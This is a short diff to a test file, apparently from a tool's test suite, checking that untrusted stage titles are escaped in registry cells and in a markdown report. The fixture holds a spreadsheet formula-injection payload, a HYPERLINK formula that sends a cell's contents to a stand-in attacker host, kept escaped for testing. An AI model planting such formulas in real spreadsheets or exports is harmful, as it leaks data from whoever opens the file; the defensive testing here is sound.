@@ -97,7 +97,8 @@ describe('registry cells from untrusted stage text', () => {
     expect(decodeCell(row!.cells[2]!)).toBe(title);
     // In report.md the same title is inert markdown text.
     const reportMd = readFileSync(path.join(dir, 'gate_results', runFolders(dir)[0]!, 'report.md'), 'utf8');
-    expect(reportMd).toContain('| Stage | P1-S00: \\=HYPERLINK("http://evil.example/?x="&amp;A1, "click, me") |');
+    // (`http\\:` so that GFM makes no autolink of the URL.)
+    expect(reportMd).toContain('| Stage | P1-S00: \\=HYPERLINK("http\\://evil.example/?x="&amp;A1, "click, me") |');
     expect(runCli(dir, ['registry', '--check']).code).toBe(0);
   });
 });
